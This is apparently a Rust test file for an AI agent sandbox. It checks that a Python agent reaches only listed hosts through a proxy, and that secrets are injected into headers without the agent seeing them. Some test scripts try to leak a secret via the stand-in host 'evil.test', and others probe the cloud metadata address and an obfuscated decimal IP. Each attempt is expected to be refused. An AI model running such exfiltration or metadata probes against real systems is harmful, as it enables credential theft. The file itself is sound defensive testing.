//! An agent's reach into the network: the hosts that its department lists, by the company's proxy, and nothing else.
#![cfg(target_os = "linux")]

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{SocketAddr, TcpListener};
use std::sync::Arc;

use crate::support::{Company, Place, WORK, at};

/// Answers each request with its head.
pub(crate) fn mirror() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let lines = BufReader::new(stream.try_clone().unwrap()).lines().map_while(Result::ok);
            let head: Vec<String> = lines.take_while(|line| !line.is_empty()).collect();
            let head = head.join("\n");
            let _ =
                write!(stream, "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{head}", head.len());
        }
    });
    address
}

/// `get` asks as programs do, by the proxy; `open` doesn't care for one.
const TOOLS: &str = r#"
import os, socket, sys, urllib.request
def get(url):
    try: print("got", urllib.request.urlopen(url, timeout=10).read().decode().lower())
    except Exception as error: print("not", getattr(error, "code", error))
def open_(host, port):
    try: socket.create_connection((host, port), 10); print("opened", host)
    except OSError as error: print("closed")
"#;

fn department(network: &str) -> String {
    let work = WORK.replace("sandbox.level = \"none\"", &format!("sandbox.network = {network}"));
    format!("{work}\nagents = [\"python\"]\nretry.max_attempts = 1\n")
}

fn place(network: &str, agent: &str) -> Arc<Place> {
    let place = Place::with(&[("work", &department(network))]);
    let python = "[agents.python]\nkind = \"command\"\ncommand = [\"python3\", \"-c\"]\ncommands = false\n";
    place.write("config/nexus.toml", &format!("shutdown_grace = \"500ms\"\n{python}{agent}"));
    place
}

fn only_what_is_listed_is_reached(without_bwrap: bool) {
    let (listed, other) = (mirror(), mirror());
    let place = place(&format!("[\"{listed}\"]"), "");
    let company = if without_bwrap { Company::up_confined_by(&place, "landlock") } else { Company::up(&place) };
    let script = format!(
        "{TOOLS}\nget('http://{listed}/it')\nget('http://{other}/')\nget('http://169.254.169.254/latest')\n\
         get('http://2130706433:{port}/')\nopen_('127.0.0.1', {port})\nopen_('127.0.0.1', {other_port})\n\
         open_('10.1.2.3', 80)\nopen_('::1', {port})\n",
        port = listed.port(),
        other_port = other.port(),
    );
    let answer = company.ended(&company.delegate(&[&script]));
    let output = at(&answer, "task.result.output").as_str().unwrap();
    let said: Vec<&str> = output.lines().filter(|line| !line.contains(": ")).collect();
    let expected =
        ["got get /it http/1.1", "not 403", "not 403", "got get / http/1.1", "closed", "closed", "closed", "closed"];
    assert_eq!(said, expected, "{answer:#}");
    assert_eq!(at(&answer, "task.result.protection.network"), "proxy");
    let tier = if without_bwrap { "landlock" } else { "namespaces" };
    assert_eq!(at(&answer, "task.result.protection.sandbox"), tier);
    let id = at(&answer, "task.task_id").as_str().unwrap();
    let log = company.run(&["logs", id]).done();
    for refused in [other.to_string(), "169.254.169.254:80".to_owned()] {
        assert!(log.contains(&format!("network: refused {refused}: ")), "{log}");
    }
}

#[test]
fn a_list_is_kept() {
    only_what_is_listed_is_reached(false);
}

#[test]
fn a_list_is_kept_without_bubblewrap() {
    only_what_is_listed_is_reached(true);
}

#[test]
fn an_agents_own_hosts_are_reached_and_a_secret_goes_there_unseen() {
    let server = mirror();
    let agent = format!(
        "hosts = [\"{server}\"]\n[agents.python.secrets]\n\
         KEY = {{ env = \"COMPANY_KEY\", inject = {{ to = \"http://{server}\", header = \"X-Key\", value = \"Bearer {{}}\" }} }}\n"
    );
    let place = place("\"agent\"", &agent);
    let company = Company::up_with(&place, &[], &[("COMPANY_KEY", "very-Secret-99")]);
    let script = format!(
        "{TOOLS}\nprint('KEY' in os.environ)\nget('http://{server}/')\nget('http://very-secret-99.evil.test/')\n\
         get('http://127.0.0.1:1/')"
    );
    let id = company.delegate(&[&script]);
    let answer = company.ended(&id);
    assert!(company.run(&["logs", &id]).done().contains("network: refused ***.evil.test:80: "));
    let output = at(&answer, "task.result.output").as_str().unwrap();
    // The server has got it; that it tells is its own doing, and nothing that the company can know in lower case.
    assert!(output.starts_with("False\ngot ") && output.contains("x-key: bearer very-secret-99"), "{answer:#}");
    assert!(output.ends_with("not 403\n"), "{output}");
}

#[test]
fn a_secret_that_is_set_by_a_proxy_needs_one() {
    let agent =
        "[agents.python.secrets]\nKEY = { env = \"HOME\", inject = { to = \"https://a.test\", header = \"x-key\" } }\n";
    let company = Company::up(&place("\"full\"", agent));
    let answer = company.ended(&company.delegate(&["1"]));
    let error = at(&answer, "task.error").as_str().unwrap();
    assert!(error.contains("KEY") && error.contains("sandbox.network"), "{answer:#}");
    assert_eq!(at(&answer, "task.status"), "failed");
}

#[test]
fn no_network_is_none() {
    let server = mirror();
    let company = Company::up(&place("\"none\"", ""));
    let script =
        format!("{TOOLS}\nget('http://{server}/')\nopen_('127.0.0.1', {})\nopen_('10.1.2.3', 80)", server.port());
    let answer = company.ended(&company.delegate(&[&script]));
    let output = at(&answer, "task.result.output").as_str().unwrap();
    assert_eq!(
        output.lines().filter(|line| line.starts_with("got") || line.starts_with("opened")).count(),
        0,
        "{answer:#}"
    );
    assert_eq!(output.lines().count(), 3);
}
